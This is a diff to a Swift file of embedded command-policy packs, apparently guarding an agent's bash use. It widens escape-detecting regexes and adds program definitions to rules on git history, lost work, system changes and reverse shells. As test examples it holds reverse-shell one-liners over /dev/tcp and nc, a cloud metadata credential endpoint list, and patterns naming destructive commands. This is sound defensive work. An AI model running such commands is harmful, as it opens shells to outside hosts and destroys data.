@@ -462,7 +462,7 @@ enum EmbeddedPacks {
       """#),
     PackFile(
       "tractatus/git.tract", package: "tractatus.git",
-      sha256: "06789c18c2d12e85d42f31ea7b242fbc210d7728af3067431340d970d66bf680",
+      sha256: "1f29c49b2143c0e6159fadf30b1dd3bf546f2788cbed1ecdb4dba610224c6e62",
       #"""
       /// History and repositories: what cannot be undone, and what makes git run other programs.
       policy tractatus.git "Repositories and their history" version "1.0.0"
@@ -472,11 +472,11 @@ enum EmbeddedPacks {
 
       sealed rule history "Shared history is not rewritten" {
           on bash
-          deny when command runs "git push" with ["-f", "--force", "--mirror"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*fo|--["'\\]*mi|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          deny when command runs "git push" with ["-f", "--force", "--mirror"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*fo|--["'\\]*mi|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This replaces commits that others have."
-          deny when command runs "git push" operand matches /^\+/ and command matches /[\s'"=]\+/
+          deny when command runs "git push" operand matches /^\+/ and command matches /[\s'"=,{]\+|\\[xuU0-7]/
               because "A `+` before a branch replaces commits that others have."
-          ask when command runs "git push" with ["-d", "--delete", "--prune"] and command matches /[^\w-]-[\w"'\\]*d|--["'\\]*de|--["'\\]*pr|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git push" with ["-d", "--delete", "--prune"] and command matches /[^\w-]-[\w"'\\]*d|--["'\\]*de|--["'\\]*pr|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This deletes branches or tags that others have."
           ask when command runs "git push" operand matches /^:/ and command matches /[\s'"=]:\S/
               because "This deletes a branch or tag that others have."
@@ -495,35 +495,35 @@ enum EmbeddedPacks {
 
       sealed rule lost_work "Work that is not committed is not thrown away" {
           on bash
-          ask when command runs "git reset" with "--hard" and command matches /--["'\\]*ha|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git reset" with "--hard" and command matches /--["'\\]*ha|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This throws away what is not committed."
-          ask when command runs "git clean" with ["-f", "--force"] without ["-n", "--dry-run"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git clean" with ["-f", "--force"] without ["-n", "--dry-run"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This deletes files that git does not know."
           ask when command runs ["git checkout", "git restore"] operand in [".", "*", ":/", ":/*"] and command matches /\s['"]?(?:\.\/?|\*|:\/\*?)['"]?\s*(?:$|[;&|)\n])/
               because "This throws away every change that is not committed."
-          ask when command runs "git switch" with "--discard-changes" and command matches /--["'\\]*di|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git switch" with "--discard-changes" and command matches /--["'\\]*di|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This throws away what is not committed."
-          ask when command runs "git" with "--work-tree" without "--git-dir" and command matches /--["'\\]*wo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git" with "--work-tree" without "--git-dir" and command matches /--["'\\]*wo|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This makes git work on another folder."
           ask when command runs "git checkout" with ["-f", "--force"] and command matches /--work-tree|--git-dir|checkout\s+(?:-f|--force)\s*(?:$|[;&|])/
               because "This throws away what is not committed."
           ask when command runs ["git stash drop", "git stash clear"]
               because "This throws away what was put aside."
-          ask when command runs "git branch" with "-D" and command matches /[^\w-]-[\w"'\\]*D|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git branch" with "-D" and command matches /[^\w-]-[\w"'\\]*D|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This deletes a branch whose commits may be nowhere else."
           ask when command runs ["git reflog expire", "git reflog delete"]
               because "This removes the way back to lost commits."
           ask when command runs "git gc" with "--prune" and command matches /--prune=(?:now|all|0)/
               because "This removes the way back to lost commits."
-          ask when command runs ["git update-ref", "git symbolic-ref"] with ["-d", "--delete"] and command matches /[^\w-]-[\w"'\\]*d|--["'\\]*de|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs ["git update-ref", "git symbolic-ref"] with ["-d", "--delete"] and command matches /[^\w-]-[\w"'\\]*d|--["'\\]*de|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This deletes a reference."
-          ask when command runs "git worktree remove" with ["-f", "--force"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git worktree remove" with ["-f", "--force"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This throws away what is not committed."
-          ask when command runs "git submodule deinit" with ["-f", "--force", "--all"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*al|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git submodule deinit" with ["-f", "--force", "--all"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*al|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This throws away what is not committed."
-          ask when command runs ["git rm"] with ["-f", "--force"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs ["git rm"] with ["-f", "--force"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This deletes files with changes that are not committed."
-          ask when command runs "git rm" with "-r" without "--cached" operand in [".", "*"] and command matches /[^\w-]-[\w"'\\]*r|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git rm" with "-r" without "--cached" operand in [".", "*"] and command matches /[^\w-]-[\w"'\\]*r|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This deletes every file that git knows."
           offer "Commit or stash first."
           example ask   { command: "git reset --hard HEAD~3" }
@@ -537,27 +537,27 @@ enum EmbeddedPacks {
 
       sealed rule git_programs "Git runs no program that an option names" {
           on bash
-          ask when command runs "git" with ["--exec-path", "--config-env"] and command matches /--["'\\]*co|--["'\\]*ex|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git" with ["--exec-path", "--config-env"] and command matches /--["'\\]*co|--["'\\]*ex|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This makes git run other programs."
-          deny when command runs "git clean" with "--work-tree" and command matches /--["'\\]*wo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          deny when command runs "git clean" with "--work-tree" and command matches /--["'\\]*wo|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This deletes files outside the project."
-          ask when command runs ["git", "gh"] with "-c" and command matches /(?:-c|-c\s+|-c\s*["'])\s*["']?(?:alias\.|core\.(?:pager|editor)=["']?\S*(?:[\/!$;|&]|\s+-|\brm\b|\bsh\b)|core\.(?:pager|editor)=["'][^"']*\s|core\.(?:sshcommand|hookspath|fsmonitor|gitproxy|askpass|alternaterefscommand|worktree)|diff\.\S*(?:external|textconv|command)|difftool\.|mergetool\.|merge\.\S*driver|filter\.|credential\.|sequence\.editor|gpg\.\S*program|protocol\.|remote\.\S*(?:uploadpack|receivepack|proxy|vcs)|uploadpack\.|receive\.|http\.(?:proxy|sslverify|extraheader)|url\.|include\.|includeif\.|init\.templatedir|interactive\.difffilter|browser\.|man\.|web\.|sendemail\.|tar\.|trailer\.|ssh\.variant|safe\.)/i
+          ask when command runs ["git", "gh"] with "-c" and command matches /(?:-c|-c\s+|-c\s*["'])\s*["']?(?:alias\.|core\.(?:pager|editor)=["']?\S*(?:[\/!$;|&]|\s+-|\brm\b|\bsh\b)|core\.(?:pager|editor)=["'][^"']*\s|["']core\.(?:pager|editor)=[^"']*\s|core\.(?:sshcommand|hookspath|fsmonitor|gitproxy|askpass|alternaterefscommand|worktree)|diff\.\S*(?:external|textconv|command)|difftool\.|mergetool\.|merge\.\S*driver|filter\.|credential\.|sequence\.editor|gpg\.\S*program|protocol\.|remote\.\S*(?:uploadpack|receivepack|proxy|vcs)|uploadpack\.|receive\.|http\.(?:proxy|sslverify|extraheader)|url\.|include\.|includeif\.|init\.templatedir|interactive\.difffilter|browser\.|man\.|web\.|sendemail\.|tar\.|trailer\.|ssh\.variant|safe\.)/i
               because "This setting makes git run another program, or trust what it should not."
-          ask when command runs ["git fetch", "git pull", "git clone", "git ls-remote", "git push", "git archive", "git fetch-pack", "git send-pack"] with ["--upload-pack", "--receive-pack", "--exec"] and command matches /--["'\\]*ex|--["'\\]*re|--["'\\]*up|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs ["git fetch", "git pull", "git clone", "git ls-remote", "git push", "git archive", "git fetch-pack", "git send-pack"] with ["--upload-pack", "--receive-pack", "--exec"] and command matches /--["'\\]*ex|--["'\\]*re|--["'\\]*up|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This option makes git run another program."
           ask when command runs ["git clone", "git fetch", "git pull", "git remote add", "git submodule add", "git ls-remote"] operand matches /^["']?(?:ext|fd)::/ and command matches /(?:ext|fd)::/
               because "This address makes git run another program."
           ask when command runs "git config" without ["--get", "--get-all", "--list", "-l", "--unset", "--get-regexp", "--show-origin"] operand matches /^(?:alias\.|core\.(?:pager|editor|sshcommand|hookspath|fsmonitor|gitproxy|askpass|worktree)$|diff\..*(?:external|textconv|command)|difftool\..*cmd|mergetool\..*cmd|merge\..*driver|filter\.|credential\.|sequence\.editor|gpg\..*program|protocol\.|remote\..*(?:uploadpack|receivepack|proxy|vcs)|uploadpack\.|http\.(?:proxy|sslverify|extraheader)|url\.|include\.|includeif\.|init\.templatedir|interactive\.difffilter|sendemail\.|safe\.directory)/i
               because "This setting makes git run another program, or trust what it should not."
-          ask when command runs "git config" with ["--system", "-e", "--edit"] and command matches /[^\w-]-[\w"'\\]*e|--["'\\]*ed|--["'\\]*sy|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git config" with ["--system", "-e", "--edit"] and command matches /[^\w-]-[\w"'\\]*e|--["'\\]*ed|--["'\\]*sy|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This changes git's settings for everyone."
-          ask when command runs "git grep" with ["-O", "--open-files-in-pager"] and command matches /[^\w-]-[\w"'\\]*O|--["'\\]*op|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git grep" with ["-O", "--open-files-in-pager"] and command matches /[^\w-]-[\w"'\\]*O|--["'\\]*op|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This option makes git run another program."
           ask when command runs ["git instaweb", "git daemon", "git send-email", "git shell"]
               because "This makes git run other programs, or serve the repository."
-          ask when command runs "git difftool" with ["-x", "--extcmd"] and command matches /[^\w-]-[\w"'\\]*x|--["'\\]*ex|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git difftool" with ["-x", "--extcmd"] and command matches /[^\w-]-[\w"'\\]*x|--["'\\]*ex|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This makes git run another program."
-          ask when command runs ["git diff", "git log", "git show"] with ["--ext-diff"] and command matches /--["'\\]*ex|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs ["git diff", "git log", "git show"] with ["--ext-diff"] and command matches /--["'\\]*ex|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This makes git run another program."
           deny when any c in command satisfies (c writes within [".git/hooks", ".git/config", ".git/objects", ".git/refs", ".git/HEAD"] and not c runs ["git", "chmod", "chown", "pre-commit", "husky", "lefthook", "gh"]) and command matches /\.git|\.g[?*\[]/
               because "This changes the repository behind git's back."
@@ -807,7 +807,7 @@ enum EmbeddedPacks {
       """#),
     PackFile(
       "tractatus/shell.tract", package: "tractatus.shell",
-      sha256: "49fab3191044c9c9ea4902f65c1befddf7a918129b663350d2ac97c37cafba9a",
+      sha256: "54d7938dbaf40aac846150c15d21b12c40555f080f49b0907cbc42daa3b36bf4",
       #"""
       /// What command-line programs do with their options and operands, and rules against hostile
       /// commands on a shell.
@@ -1024,7 +1024,7 @@ enum EmbeddedPacks {
           option -S --split-string takes command executes
           flag -i -v "-" "-0" --ignore-environment --null --debug
       }
-      program nohup, setsid, catchsegv, setarch, linux32, linux64, eatmydata, unbuffer, winpty, fakeroot, rlwrap, caffeinate, chronic, "dbus-run-session" { executes operands  flag -c -f -w -d -i -m -s }
+      program nohup, setsid, catchsegv, linux32, linux64, eatmydata, unbuffer, winpty, fakeroot, rlwrap, caffeinate, chronic, "dbus-run-session" { executes operands  flag -c -f -w -d -i -m -s }
       program timeout, gtimeout { executes other operands  option -s --signal -k --kill-after takes text  flag -v --foreground --preserve-status --verbose }
       program time { executes operands  option -f --format takes text  option -o --output takes path writes  flag -p -v -a -l -h }
       program numactl { executes operands  option -N -m -i -p -C --cpunodebind --membind --interleave --physcpubind takes text }
@@ -1033,6 +1033,11 @@ enum EmbeddedPacks {
       program ionice { executes operands  option -c --class -n --classdata -p -P -u takes text  flag -t }
       program chrt, taskset { executes other operands  option -p takes text  flag -a -c -r -f -o -b -i }
       program stdbuf { executes operands  option -i --input -o --output -e --error takes text }
+      program setarch { executes operands  executes other operands }
+      program "xvfb-run" { executes operands  option -s --server-args takes text  option -n --server-num takes text  option -e --error-file takes path  option -f --auth-file takes path  option -p --xauth-protocol takes text  option -w --wait takes text  flag -a --auto-servernum }
+      program sg { executes other operands joined  option -c takes command executes }
+      program watchexec { executes operands joined  option -e --exts takes text  option -w --watch takes path  option -i --ignore takes text  flag -r --restart  flag -c --clear }
+      program xterm, urxvt, rxvt, kitty, alacritty, "gnome-terminal", konsole, foot { option -e takes command until [";;"] executes }
       program watch { executes operands joined  option -n --interval takes text  flag -d -b -e -g -t -x -c -p --color --differences }
       program flock { executes other operands  option -c --command takes command executes  option -w --timeout --wait -E takes text  flag -s -x -e -u -n -o --shared --exclusive --nonblock --verbose }
       program chroot { executes other operands  escalates  option --userspec --groups takes text  flag --skip-chdir }
@@ -1056,9 +1061,9 @@ enum EmbeddedPacks {
       program parallel { executes operands joined extended  option -a --arg-file takes path reads  option -j --jobs -n -N -I -S --sshlogin --colsep --delay --timeout --joblog --retries --results --tmpdir --wd -C -d -L -P takes text  flag -k -u -X -m "-0" -t -v -q --bar --halt --dry-run --will-cite --keep-order --ungroup --no-notice --line-buffer }
       program at, batch { executes input  option -f takes path executes  option -t -q takes text  flag -l -r -d -m -v -c }
       program "expect" { executes first operand  option -c takes text executes  option -f takes path executes }
-      program script { writes first operand  option -c --command takes command executes  flag -q -a -e -f }
+      program script { writes first operand  executes other operands  option -c --command takes command executes  flag -q -a -e -f }
       program strace, ltrace, dtruss, perf { executes operands  option -o takes path writes  option -e -p -s -u -S -a takes text  flag -f -c -t -T -r -v -y -q }
-      program gdb, lldb { reads operands  option -ex -eval-command -iex -o -O --one-line takes text executes  option -x -command takes path executes  option -p takes text  flag -batch -q -quiet }
+      program gdb, lldb { reads operands  option -ex -eval-command --eval-command -iex --init-eval-command -o -O --one-line takes text executes  option -x -command takes path executes  option -p takes text  flag -batch -q -quiet }
       program valgrind, hyperfine, heaptrack { executes operands }
       program open, "xdg-open", start, explorer { executes operands }
 
@@ -1517,7 +1522,7 @@ enum EmbeddedPacks {
       let spells_a_place on bash = command matches /(?:^|[\s=>"'|:&(@`{},\\]|-\w)\/(?:[^dt\s]|d[^e]|de[^v]|dev(?:[^\/]|\/[^ns]|\/n[^u]|\/s[^t])|t[^m]|tm[^p]|tmp[^\/\s"';&|)]|$|\s)|\.\.|~|\$|`|\b(?:cd|popd|pushd)\s*(?:-|&|;|\||$|\n|"")|\\[0-7xuU]|\[|\bCDPATH\b|\{[^}]/
 
       /// Whether the line spells a folder of the machine.
-      let spells_the_machine on bash = command matches /(?:^|[\s="'`(]|-\w)(?:\/(?:etc|usr|bin|sbin|lib|boot|root|var|home|proc|sys|dev|srv|opt)?(?:\/|["'\s;&|)]|$)|\/\/|\/\.)|\.\.\/|\\[x0-7]/
+      let spells_the_machine on bash = command matches /(?:^|[\s="'`(]|-\w)(?:\/(?:etc|usr|bin|sbin|lib|boot|root|var|home|proc|sys|dev|srv|opt)?(?:\/|["'\s;&|)]|$)|\/\/|\/\.)|\.\.\/|\\[xuU0-7]/
 
       // ---- Rules: what cannot be known ----
 
@@ -1562,7 +1567,7 @@ enum EmbeddedPacks {
           ask when any c in command satisfies (c runs ["rm", "grm", "shred", "srm", "rimraf", "trash"] and c deletes in ["src", "Sources", "package.json"])
                    and command matches /(?:\brm|shred|srm|rimraf|trash)\s[^;&|]*(?:\*|\?|\[|src|Sources|package\.json)/
               because "This deletes the project's own sources."
-          ask when command runs ["find", "gfind"] with "-delete" without ["-name", "-iname", "-path", "-ipath", "-regex", "-iregex", "-newer", "-mtime", "-mmin", "-size", "-empty", "-type"] operand in [".", "./"] and command matches /-delete|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs ["find", "gfind"] with "-delete" without ["-name", "-iname", "-path", "-ipath", "-regex", "-iregex", "-newer", "-mtime", "-mmin", "-size", "-empty", "-type"] operand in [".", "./"] and command matches /-delete|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
               because "This deletes every file that it finds."
           check "Backup exists?"
           example deny  { command: "rm -rf .git" } given { project: "/work/app", cwd: "/work/app" }
@@ -1619,28 +1624,28 @@ enum EmbeddedPacks {
           deny when command runs ["wipefs", "sgdisk", "sfdisk", "parted", "blkdiscard", "mkswap", "diskutil eraseDisk", "diskutil partitionDisk", "zpool destroy", "zfs destroy", "cryptsetup", "lvremove", "vgremove", "pvremove", "debugfs"] because "This changes disks."
           deny when command runs ["mkfs", "mkfs.ext2", "mkfs.ext3", "mkfs.ext4", "mkfs.xfs", "mkfs.btrfs", "mkfs.vfat", "mkfs.fat", "mkfs.ntfs", "mkfs.exfat", "mke2fs", "newfs"] operand matches /\/dev\// because "This changes disks."
           ask when command runs ["systemctl stop", "systemctl disable", "systemctl mask", "systemctl kill", "systemctl isolate", "systemctl set-default", "systemctl enable", "systemctl edit", "launchctl unload", "launchctl load", "launchctl remove", "launchctl bootout", "launchctl bootstrap", "chkconfig", "update-rc.d"] because "This changes which services run."
-          ask when command runs ["iptables", "ip6tables", "ebtables"] with ["-F", "-A", "-I", "-D", "-P", "-X", "-Z", "-N", "-R", "--flush", "--append", "--delete", "--policy"] and command matches /[^\w-]-[\w"'\\]*[ADFINPRXZ]|--["'\\]*ap|--["'\\]*de|--["'\\]*fl|--["'\\]*po|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes the machine's protection."
+          ask when command runs ["iptables", "ip6tables", "ebtables"] with ["-F", "-A", "-I", "-D", "-P", "-X", "-Z", "-N", "-R", "--flush", "--append", "--delete", "--policy"] and command matches /[^\w-]-[\w"'\\]*[ADFINPRXZ]|--["'\\]*ap|--["'\\]*de|--["'\\]*fl|--["'\\]*po|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This changes the machine's protection."
           ask when command runs ["iptables-restore", "nft flush", "nft delete", "nft add", "ufw disable", "ufw allow", "ufw reset", "ufw delete", "pfctl", "setenforce", "csrutil", "spctl", "nvram"] because "This changes the machine's protection."
           ask when command runs "firewall-cmd" because "This changes the machine's protection."
           ask when command runs ["useradd", "userdel", "usermod", "adduser", "deluser", "groupadd", "groupdel", "groupmod", "passwd", "chpasswd", "chage", "chsh", "visudo", "vipw", "vigr", "gpasswd", "dscl", "sysadminctl"] because "This changes who may use the machine."
           ask when command runs ["mount", "umount"] operand matches /./ because "This changes the machine's file systems."
-          ask when command runs "umount" with "-a" and command matches /[^\w-]-[\w"'\\]*a|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes the machine's file systems."
+          ask when command runs "umount" with "-a" and command matches /[^\w-]-[\w"'\\]*a|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This changes the machine's file systems."
           ask when command runs ["swapoff", "losetup", "insmod", "modprobe", "rmmod", "grub-install", "update-grub", "efibootmgr", "mdadm", "hdparm", "e2fsck", "resize2fs", "tune2fs", "badblocks"] because "This changes disks or the kernel."
-          ask when command runs "sysctl" with ["-w", "-p", "--write"] and command matches /[^\w-]-[\w"'\\]*[pw]|--["'\\]*wr|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes the kernel's settings."
+          ask when command runs "sysctl" with ["-w", "-p", "--write"] and command matches /[^\w-]-[\w"'\\]*[pw]|--["'\\]*wr|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This changes the kernel's settings."
           ask when command runs "sysctl" operand matches /=/ because "This changes the kernel's settings."
-          ask when command runs "crontab" with "-r" and command matches /[^\w-]-[\w"'\\]*r|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This deletes every scheduled job."
-          ask when command runs "crontab" operand matches /./ because "This schedules jobs."
+          ask when command runs "crontab" with "-r" and command matches /[^\w-]-[\w"'\\]*r|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This deletes every scheduled job."
+          ask when command runs "crontab" without ["-l", "-r"] because "This schedules jobs."
           ask when command runs ["at", "batch", "systemd-run"] because "This runs a command later, when nobody looks."
           ask when command runs ["kill", "skill"] operand in ["1", "-1", "0"] and command matches /kill\b[^;&|]*\s-?['"]?[01]\b/ because "This stops every process."
-          ask when command runs "kill" with "-1" and command matches /[^\w-]-[\w"'\\]*1|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This stops every process."
-          ask when command runs ["pkill", "killall", "skill"] with ["-u", "--euid", "--uid", "-U"] and command matches /[^\w-]-[\w"'\\]*[Uu]|--["'\\]*eu|--["'\\]*ui|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This stops every process."
+          ask when command runs "kill" with "-1" and command matches /[^\w-]-[\w"'\\]*1|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This stops every process."
+          ask when command runs ["pkill", "killall", "skill"] with ["-u", "--euid", "--uid", "-U"] and command matches /[^\w-]-[\w"'\\]*[Uu]|--["'\\]*eu|--["'\\]*ui|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This stops every process."
           ask when command runs ["killall5", "fuser"] because "This stops every process."
-          ask when command runs "history" with ["-c", "-w", "-d", "-a"] and command matches /[^\w-]-[\w"'\\]*[acdw]|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes the record of what was run."
-          ask when command runs "journalctl" with ["--vacuum-size", "--vacuum-time", "--vacuum-files", "--rotate"] and command matches /--["'\\]*ro|--["'\\]*va|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This deletes the machine's records."
-          ask when command runs ["logrotate", "tcpdump", "ip netns"] with ["-f", "--force", "-z", "-w"] and command matches /[^\w-]-[\w"'\\]*[fwz]|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes the machine's records, or runs a program."
+          ask when command runs "history" with ["-c", "-w", "-d", "-a"] and command matches /[^\w-]-[\w"'\\]*[acdw]|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This changes the record of what was run."
+          ask when command runs "journalctl" with ["--vacuum-size", "--vacuum-time", "--vacuum-files", "--rotate"] and command matches /--["'\\]*ro|--["'\\]*va|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This deletes the machine's records."
+          ask when command runs ["logrotate", "tcpdump", "ip netns"] with ["-f", "--force", "-z", "-w"] and command matches /[^\w-]-[\w"'\\]*[fwz]|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This changes the machine's records, or runs a program."
           ask when command runs "ip netns exec" because "This runs a command in another network."
           ask when command runs ["apt purge", "apt-get purge", "apt remove", "apt-get remove", "apt autoremove", "apt-get autoremove", "dnf remove", "dnf erase", "yum remove", "yum erase", "zypper remove", "apk del"] because "This removes programs of the machine."
-          ask when command runs ["dpkg", "rpm"] with ["--purge", "--remove", "-P", "-r", "-e", "--erase", "--force-all"] and command matches /[^\w-]-[\w"'\\]*[Per]|--["'\\]*er|--["'\\]*fo|--["'\\]*pu|--["'\\]*re|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This removes programs of the machine."
+          ask when command runs ["dpkg", "rpm"] with ["--purge", "--remove", "-P", "-r", "-e", "--erase", "--force-all"] and command matches /[^\w-]-[\w"'\\]*[Per]|--["'\\]*er|--["'\\]*fo|--["'\\]*pu|--["'\\]*re|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This removes programs of the machine."
           ask when command runs ["apt", "apt-get"] with "-o" and command matches /(?:pre|post)-?invoke|dpkg::options/i because "This setting runs a program."
           example deny  { command: "sudo shutdown -h now" }
           example ask   { command: "kill -9 -1" }
@@ -1654,9 +1659,9 @@ enum EmbeddedPacks {
 
       sealed rule root_shell "Nobody gets a shell with another user's rights" {
           on bash
-          ask when command runs "sudo" with ["-i", "-s", "--login", "--shell", "-e", "--edit"] and command matches /[^\w-]-[\w"'\\]*[eis]|--["'\\]*ed|--["'\\]*lo|--["'\\]*sh|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This opens a shell with another user's rights."
+          ask when command runs "sudo" with ["-i", "-s", "--login", "--shell", "-e", "--edit"] and command matches /[^\w-]-[\w"'\\]*[eis]|--["'\\]*ed|--["'\\]*lo|--["'\\]*sh|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This opens a shell with another user's rights."
           ask when command runs ["su", "runuser", "pkexec", "nsenter", "sudo su", "sudo bash", "sudo sh", "sudo zsh", "doas sh", "doas bash"] because "This opens a shell with another user's rights."
-          ask when command runs "doas" with "-s" and command matches /[^\w-]-[\w"'\\]*s|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This opens a shell with another user's rights."
+          ask when command runs "doas" with "-s" and command matches /[^\w-]-[\w"'\\]*s|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This opens a shell with another user's rights."
           ask when command runs "chmod" operand matches /^(?:[ugoa]*[+=][rwxXt]*s|0?[2467][0-7]{3}$)/ and command matches /[+=][rwxXt]*s|\b0?[2467][0-7]{3}\b/ because "This lets a program run with its owner's rights."
           ask when command runs "setcap" because "This gives a program rights of the system."
           ask when command runs ["chroot", "unshare", "proot"] because "This runs a command in another root."
@@ -1697,11 +1702,11 @@ enum EmbeddedPacks {
       sealed rule reverse_shell "No shell is handed to the network" {
           on bash
           deny when any c in command satisfies (c runs shells and c connects) because "This connects a shell to another machine."
-          deny when command runs ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"] with ["-e", "--exec", "-c", "--sh-exec", "--lua-exec"] and command matches /[^\w-]-[\w"'\\]*[ce]|--["'\\]*ex|--["'\\]*lu|--["'\\]*sh|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This hands a program to another machine."
+          deny when command runs ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"] with ["-e", "--exec", "-c", "--sh-exec", "--lua-exec"] and command matches /[^\w-]-[\w"'\\]*[ce]|--["'\\]*ex|--["'\\]*lu|--["'\\]*sh|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This hands a program to another machine."
           deny when command runs "socat" operand matches /^(?:exec|system|shell):/i because "This hands a program to another machine."
           deny when command pipes ["bash", "sh", "zsh", "dash", "ksh"] into listeners because "This hands a shell to another machine."
           deny when command pipes listeners into shells because "This runs what another machine sends."
-          deny when command matches /\/dev\/(?:tcp|udp)\// and command connects because "This opens a connection from the shell."
+          deny when command matches /\/dev\/(?:tcp|udp)\/|[<>]&?\s*\$'/ and command connects because "This opens a connection from the shell."
           example deny  { command: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" }
           example deny  { command: "nc -e /bin/sh 203.0.113.9 4444" }
           example deny  { command: "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f" } given { project: "/work/app", cwd: "/work/app" }
@@ -1710,9 +1715,9 @@ enum EmbeddedPacks {
 
       sealed rule hostile_host "Places that exist to take data out" {
           on bash
-          deny when command connects within ["169.254.169.254", "169.254.170.2", "metadata.google.internal", "100.100.100.200", "fd00:ec2::254"] and command matches /169|254|2852039166|0x|0?251|a9fe|metadata|100\.100|fd00|\\[x0-7]/i because "This asks the machine's provider for its credentials."
